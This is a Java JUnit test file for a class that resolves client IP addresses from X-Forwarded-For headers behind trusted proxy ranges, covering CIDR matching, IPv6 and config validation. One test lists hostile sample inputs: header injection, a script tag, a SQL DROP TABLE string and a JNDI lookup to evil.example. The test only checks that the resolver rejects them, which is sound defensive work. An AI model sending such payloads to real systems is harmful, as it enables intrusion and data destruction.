package dev.attest.internal.config;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Surefire runs these with {@code jdk.net.hosts.file} pointing at {@code src/test/hosts}, where every name
 * used below resolves to a trusted address: a name that were looked up would show in the results.
 */
class ClientAddressesTest {

    private static final String PROXY = "10.0.0.1";
    private static final String CLIENT = "198.51.100.7";

    private final ClientAddresses behindProxies = new ClientAddresses(List.of("10.0.0.0/8"));

    private static String rejection(String entry) {
        return assertThrows(IllegalArgumentException.class, () -> new ClientAddresses(List.of(entry))).getMessage();
    }

    @Test
    void withoutForwardedForThePeerIsTheClient() {
        assertEquals(PROXY, behindProxies.resolve(PROXY, null));
    }

    @Test
    void aBlankForwardedForIsIgnored() {
        assertEquals(PROXY, behindProxies.resolve(PROXY, "  "));
    }

    @Test
    void forwardedForFromAnUntrustedPeerIsIgnored() {
        assertEquals("203.0.113.5", behindProxies.resolve("203.0.113.5", CLIENT));
    }

    @Test
    void withNoTrustedProxiesForwardedForIsAlwaysIgnored() {
        assertEquals(PROXY, new ClientAddresses(List.of()).resolve(PROXY, CLIENT));
    }

    @Test
    void aTrustedPeerIsBelievedAboutTheHopBeforeIt() {
        assertEquals(CLIENT, behindProxies.resolve(PROXY, CLIENT));
    }

    @Test
    void aTrustedPeerYieldsTheNearestHopNotTheLeftmost() {
        assertEquals(CLIENT, behindProxies.resolve(PROXY, "1.1.1.1, 203.0.113.9, " + CLIENT));
    }

    @Test
    void aChainOfTrustedProxiesIsWalkedBackToTheFirstUntrustedHop() {
        assertEquals(CLIENT, behindProxies.resolve(PROXY, "1.1.1.1," + CLIENT + ",10.0.0.3 , 10.0.0.2"));
    }

    @Test
    void whenEveryHopIsTrustedTheLeftmostHopIsTheClient() {
        assertEquals("10.0.0.9", behindProxies.resolve(PROXY, "10.0.0.9, 10.0.0.3"));
    }

    @Test
    void theWalkStopsAtAnUnparseableHopAndKeepsTheLastTrustedOne() {
        assertEquals("10.0.0.2", behindProxies.resolve(PROXY, CLIENT + ", unknown, 10.0.0.2"));
    }

    @Test
    void aSingleAddressEntryTrustsOnlyThatAddress() {
        ClientAddresses one = new ClientAddresses(List.of(PROXY));
        assertEquals(CLIENT, one.resolve(PROXY, CLIENT));
        assertEquals("10.0.0.2", one.resolve("10.0.0.2", CLIENT));
    }

    @Test
    void anIpv4RangeCoversExactlyItsAddresses() {
        ClientAddresses range = new ClientAddresses(List.of("192.168.0.0/22"));
        assertTrue(range.isTrusted("192.168.0.0"));
        assertTrue(range.isTrusted("192.168.3.255"));
        assertFalse(range.isTrusted("192.168.4.0"));
        assertFalse(range.isTrusted("192.167.255.255"));
    }

    @Test
    void aByteAlignedIpv4RangeCoversExactlyItsAddresses() {
        ClientAddresses range = new ClientAddresses(List.of("172.16.0.0/12"));
        assertTrue(range.isTrusted("172.31.255.254"));
        assertFalse(range.isTrusted("172.32.0.1"));
        assertFalse(range.isTrusted("172.15.255.255"));
    }

    @Test
    void anIpv6RangeCoversExactlyItsAddresses() {
        ClientAddresses range = new ClientAddresses(List.of("fd00::/8"));
        assertTrue(range.isTrusted("fd12:3456:789a::1"));
        assertFalse(range.isTrusted("fe80::1"));
        assertFalse(range.isTrusted("2001:db8::1"));
    }

    @Test
    void anIpv6RangeWithAPrefixInsideAByteCoversExactlyItsAddresses() {
        ClientAddresses range = new ClientAddresses(List.of("2001:db8::/33"));
        assertTrue(range.isTrusted("2001:db8:7fff:ffff::1"));
        assertFalse(range.isTrusted("2001:db8:8000::1"));
    }

    @Test
    void ipv6AddressesAreComparedWhateverTheirSpelling() {
        ClientAddresses one = new ClientAddresses(List.of("2001:DB8:0:0:0:0:0:1"));
        assertTrue(one.isTrusted("2001:db8::1"));
    }

    @Test
    void aTrustedIpv6ProxyIsBelievedAboutAnIpv6Client() {
        ClientAddresses range = new ClientAddresses(List.of("fd00::/8"));
        assertEquals("2001:db8::42", range.resolve("fd00::1", "2001:db8::42"));
    }

    @Test
    void anIpv4MappedIpv6PeerMatchesAnIpv4Range() {
        assertTrue(behindProxies.isTrusted("::ffff:10.1.2.3"));
    }

    @Test
    void anIpv4RangeNeverCoversIpv6Addresses() {
        ClientAddresses everyIpv4 = new ClientAddresses(List.of("0.0.0.0/0"));
        assertTrue(everyIpv4.isTrusted("203.0.113.5"));
        assertFalse(everyIpv4.isTrusted("::1"));
    }

    @Test
    void anIpv6RangeNeverCoversIpv4Addresses() {
        ClientAddresses everyIpv6 = new ClientAddresses(List.of("::/0"));
        assertTrue(everyIpv6.isTrusted("2001:db8::1"));
        assertFalse(everyIpv6.isTrusted("10.0.0.1"));
    }

    @Test
    void aNullPeerIsNeverTrusted() {
        assertFalse(behindProxies.isTrusted(null));
        assertNull(behindProxies.resolve(null, CLIENT));
    }

    @Test
    void hostnamesInForwardedForAreNeverUsed() {
        for (String name : List.of("localhost", "proxy.example.com", "cafe", "dead.beef", "face.b00c")) {
            assertEquals(PROXY, behindProxies.resolve(PROXY, name), name);
        }
    }

    @Test
    void malformedDottedNumbersInForwardedForAreNeverUsed() {
        for (String garbage : List.of("1.2.3.4.5", "999.1.1.1", "256.0.0.1", "10.0.0.")) {
            assertEquals(PROXY, behindProxies.resolve(PROXY, garbage), garbage);
        }
    }

    @Test
    void abbreviatedAndAmbiguousIpv4FormsInForwardedForAreNeverUsed() {
        for (String ambiguous : List.of("127.1", "10", "2130706433", "010.0.0.1", "0x7f.0.0.1")) {
            assertEquals(PROXY, behindProxies.resolve(PROXY, ambiguous), ambiguous);
        }
    }

    @Test
    void injectionAttemptsInForwardedForAreNeverUsed() {
        for (String attack : List.of(CLIENT + "\r\nX-Admin: true", "<script>alert(1)</script>",
                "1.2.3.4'; DROP TABLE audit_event; --", "${jndi:ldap://evil.example/a}",
                CLIENT + "\u202e", "1".repeat(60), CLIENT + ":8080", "fe80::1%eth0")) {
            assertEquals(PROXY, behindProxies.resolve(PROXY, attack), attack);
        }
    }

    @Test
    void namesAreNeverLookedUpEvenWhenTheyWouldResolveToATrustedAddress() {
        // src/test/hosts maps every one of these to 10.0.0.99, inside the trusted range
        for (String name : List.of("cafe", "dead.beef", "face.b00c", "1.2.3.4.5", "999.1.1.1")) {
            assertNull(ClientAddresses.literal(name), name);
            assertFalse(behindProxies.isTrusted(name), name);
            assertEquals(name, behindProxies.resolve(name, CLIENT), name);
        }
    }

    @Test
    void anEntryThatIsNotAnAddressIsRejectedNamingTheKey() {
        assertEquals("attest.trusted-proxies: 'proxy.example.com' is not an IP address or CIDR range",
                rejection("proxy.example.com"));
    }

    @Test
    void aHostnameEntryIsRejectedWithoutBeingLookedUp() {
        assertEquals("attest.trusted-proxies: 'cafe' is not an IP address or CIDR range", rejection("cafe"));
    }

    @Test
    void anEntryWithAHostnameBeforeThePrefixIsRejected() {
        assertEquals("attest.trusted-proxies: 'gateway/24' is not an IP address or CIDR range", rejection("gateway/24"));
    }

    @Test
    void anIpv4PrefixLongerThan32IsRejected() {
        assertEquals("attest.trusted-proxies: bad prefix length in '10.0.0.0/33'", rejection("10.0.0.0/33"));
    }

    @Test
    void anIpv6PrefixLongerThan128IsRejected() {
        assertEquals("attest.trusted-proxies: bad prefix length in 'fd00::/129'", rejection("fd00::/129"));
    }

    @Test
    void aNegativePrefixIsRejected() {
        assertEquals("attest.trusted-proxies: bad prefix length in '10.0.0.0/-1'", rejection("10.0.0.0/-1"));
    }

    @Test
    void aNonNumericPrefixIsRejected() {
        assertEquals("attest.trusted-proxies: bad prefix length in '10.0.0.0/eight'", rejection("10.0.0.0/eight"));
    }

    @Test
    void anEmptyPrefixIsRejected() {
        assertEquals("attest.trusted-proxies: bad prefix length in '10.0.0.0/'", rejection("10.0.0.0/"));
    }

    @Test
    void surroundingSpacesInAnEntryAreIgnored() {
        assertTrue(new ClientAddresses(List.of(" 10.0.0.0/8 ")).isTrusted("10.200.0.1"));
    }
}
